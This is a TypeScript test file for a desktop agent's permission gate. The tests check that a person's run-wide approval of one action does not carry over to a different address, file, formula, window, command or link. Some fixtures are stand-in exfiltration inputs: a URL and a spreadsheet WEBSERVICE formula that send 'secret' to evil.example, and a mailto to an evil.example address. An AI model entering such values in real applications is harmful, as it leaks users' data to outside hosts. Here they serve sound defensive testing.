// What a person has allowed for the run covers that, and not what the same control would do to another file, address or text.
import { expect, test } from 'vitest'
import { configSchema } from '../../src-preload/contract/config.ts'
import { SEEN_TEXT, type TargetDescription } from '../core/desktop.ts'
import type { Interactor, SensitiveStep } from '../core/interactor.ts'
import { RunControl } from '../core/run-control.ts'
import { createGate } from './create-gate.ts'
import type { Act } from './gate.ts'
import { Places } from './places.ts'
import { actOf, controlOf, HOME, targetOf, windowOf } from './testing/acts.ts'

const browser = windowOf('chromium', 'Shop - Chromium')
const page = 'https://shop.example/cart'
const act = (
  tool: string,
  parameters: Record<string, unknown>,
  window: Parameters<typeof targetOf>[0],
  control: Parameters<typeof targetOf>[1],
  more: Partial<TargetDescription> = {},
): Act => actOf(tool, { id: '7', name: control?.name ?? '', ...parameters }, targetOf(window, control, more))

/** Allows the first act for the run until it is asked about no more, and says of the second whether it is asked about. */
async function asksAgain(first: Act, second: Act): Promise<boolean> {
  const asked: SensitiveStep[] = []
  const interactor: Partial<Interactor> = {
    sensitiveStepAsker: (step) => {
      asked.push(step)
      return Promise.resolve({ answer: { allow: true, scope: 'run', why: null }, by: 'person' })
    },
  }
  using run = new RunControl()
  const gate = createGate({
    policy: configSchema.parse({}).safety,
    interactor: interactor as Interactor,
    runId: 'r1',
    places: new Places({ homes: [HOME], own: [] }),
    requests: () => ['do it'],
  })
  await gate.admit(first, run)
  expect(asked, 'the first act is asked about').toHaveLength(1)
  // Of the second time on, the run has read what stands in the window.
  await gate.admit(first, run)
  const before = asked.length
  await gate.admit(second, run)
  return asked.length > before
}

const bar = controlOf('edit', 'Address and search bar', [], {
  bounds: { x: 100, y: 40, width: 500, height: 30 },
})
const goTo = (address: string) =>
  act('type_text', { text: address, enter: true }, browser, bar, { page, within: [] })
const dialog = windowOf('chromium', 'Open File', { kind: 'dialog', modal: true })
const give = (opens: string) => act('click_input', {}, dialog, controlOf('button', 'Open'), { opens, page })
const link = (address: string) =>
  act('click_input', {}, browser, controlOf('link', 'Next'), {
    page,
    address,
    within: [{ role: 'web page', name: 'Shop' }],
  })
const close = (title: string, document: string) =>
  act('close_application_window', {}, windowOf('kate', title), null, { unsaved: true, document })
const enterLine = (line: string) =>
  act(
    'type_text',
    { text: line, enter: true },
    windowOf('doublecmd', 'Double Commander'),
    controlOf('edit', 'Command'),
  )
const sheet = windowOf('soffice', 'Book.ods - LibreOffice Calc')
const formula = (address: string) =>
  act('type_text', { text: `=WEBSERVICE("${address}")`, enter: true }, sheet, controlOf('cell', 'A1'))

test('another address of the same site is not asked about again', async () => {
  expect(await asksAgain(goTo('https://a.example/'), goTo('https://a.example/b'))).toBe(false)
})

test.each([
  ['an address bar', goTo('https://a.example/'), goTo('https://evil.example/?d=secret')],
  ['a file for a page', give(`${HOME}/photo.png`), give(`${HOME}/contract.pdf`)],
  ['a formula', formula('https://a.example/'), formula('https://evil.example/?d=secret')],
  ['a window', close('a.txt – Kate', `${HOME}/a.txt`), close('a.txt – Kate', `${HOME}/work/a.txt`)],
  ['a line', enterLine('sh a.sh'), enterLine('sh b.sh')],
  ['a link', link('mailto:a@a.example'), link('mailto:b@evil.example')],
])('%s is not another one of the same control', async (_, first, second) => {
  expect(await asksAgain(first, first)).toBe(false)
  expect(await asksAgain(first, second)).toBe(true)
})

test('in a window without controls, texts on its picture are allowed together, but for what has a known harm', async () => {
  const game = windowOf('tuxpaint', 'Tux Paint')
  const seen = (name: string, id: string) =>
    act('click_input', { id }, game, controlOf('other', name, [], { description: SEEN_TEXT }), {
      kind: 'point',
      point: { x: 10, y: 20 },
    })
  expect(await asksAgain(seen('Stamp', '1'), seen('Lines', '2'))).toBe(false)
  expect(await asksAgain(seen('Stamp', '1'), seen('Delete all', '2'))).toBe(true)
})
